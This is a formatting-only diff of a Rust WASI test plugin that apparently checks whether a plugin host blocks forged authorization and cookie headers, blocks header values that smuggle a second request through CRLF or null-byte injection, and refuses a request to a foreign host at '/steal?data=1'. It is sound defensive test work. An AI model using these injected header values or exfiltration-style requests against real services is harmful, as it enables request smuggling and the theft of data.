@@ -2,13 +2,21 @@
 
 use sluicegate_fault::bindings::wasi::http::outgoing_handler;
 use sluicegate_fault::bindings::wasi::http::types::{Fields, OutgoingRequest, Scheme};
-use sluicegate_fault::{Discovery, Failure, Limits, Plugin, Split, emit, events, found, mode, split, text};
+use sluicegate_fault::{
+    Discovery, Failure, Limits, Plugin, Split, emit, events, found, mode, split, text,
+};
 
 struct DialOut;
 
 /// Header names that a plugin may not set, whatever the host sends itself.
-const FORGED: [&str; 6] =
-    ["authorization", "Authorization", "proxy-authorization", "cookie", "host", "transfer-encoding"];
+const FORGED: [&str; 6] = [
+    "authorization",
+    "Authorization",
+    "proxy-authorization",
+    "cookie",
+    "host",
+    "transfer-encoding",
+];
 
 /// Header values that would split a request in two.
 const SMUGGLED: [&[u8]; 3] = [b"a\r\nx-injected: 1", b"a\nb", b"a\0b"];
@@ -87,7 +95,9 @@ impl Plugin for DialOut {
                 }
             },
             _ => match get(Scheme::Http, foreign, "/steal?data=1") {
-                Ok(status) => Err(Failure::Internal(format!("a foreign host answered {status}"))),
+                Ok(status) => Err(Failure::Internal(format!(
+                    "a foreign host answered {status}"
+                ))),
                 Err(error) => Err(Failure::Internal(error)),
             },
         }
